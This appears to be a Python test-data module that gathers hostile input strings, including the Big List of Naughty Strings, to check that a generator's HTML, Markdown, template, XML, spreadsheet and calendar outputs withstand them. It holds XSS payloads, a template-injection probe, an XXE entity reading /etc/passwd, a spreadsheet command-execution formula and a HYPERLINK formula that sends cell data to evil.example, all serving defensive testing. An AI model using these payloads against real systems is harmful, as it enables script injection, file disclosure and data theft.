"""Texts that broke other programs, and those that our outputs are made of.

The Big List of Naughty Strings (https://github.com/minimaxir/big-list-of-naughty-strings) stands in
`tests/data/` with its licence.
"""

from __future__ import annotations

import json
from pathlib import Path

from generator.loading.yaml_characters import unfit

DATA = Path(__file__).parents[1] / "data"
NAUGHTY: tuple[str, ...] = tuple(
    json.loads((DATA / "naughty-strings.json").read_text(encoding="utf-8"))
)

OURS = (
    # HTML: out of text, of an attribute, of a comment, of a title, of raw text
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "--><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "x onmouseover=alert(1)",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "</style></textarea></noscript><script>alert(1)</script>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name="x">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &copy; &#0; &#x110000; &nosuch;",
    # Markdown
    "[a](javascript:alert(1))",
    "[a](JaVa&#9;ScRiPt&colon;alert(1))",
    "[a](//evil.example/)",
    '[a](https://a.example/ "\' onmouseover=alert(1) x=")',
    "![a](https://evil.example/x.png)",
    '<https://a.example/?"onmouseover=alert(1)>',
    "[a]: https://a.example/ 'x' onclick=alert(1)",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| `<img src=x onerror=alert(1)>` |",
    "[" * 399,
    "*" * 2_000,
    "> " * 30 + "a",
    "- " * 30 + "a",
    # templates, which content is not
    "{{ 7 * 7 }} {% include 'base.html' %} {# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{ view }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %> %(title)s {title} {0.__class__}",
    # JSON and scripts
    "</script><!--<script>\\u003c/script\\u003e",
    "NaN Infinity -0 1e999 null undefined __proto__ constructor",
    '\\"};alert(1);//',
    # XML
    "]]>",
    "<![CDATA[x]]><?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    # tables and calendars
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "a,b;c\t\"d\" 'e'",
    "END:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:a",
    "a;b,c:d\\n\\,\\;" * 20,
    # text
    "A\u0301" * 50,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "x" * 5_000,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 and \u05e2\u05d1\u05e8\u05d9\u05ea in one line",
    "\ufeff\u00ad\u200b\u2060 nothing to see",
)
"""Texts against the outputs of this project."""


def _publishable(text: str) -> bool:
    return bool(text.strip()) and unfit(text) is None


PUBLISHABLE = tuple(text for text in dict.fromkeys((*OURS, *NAUGHTY)) if _publishable(text))
"""All that a field of text takes; what it refuses is tried on the loader."""
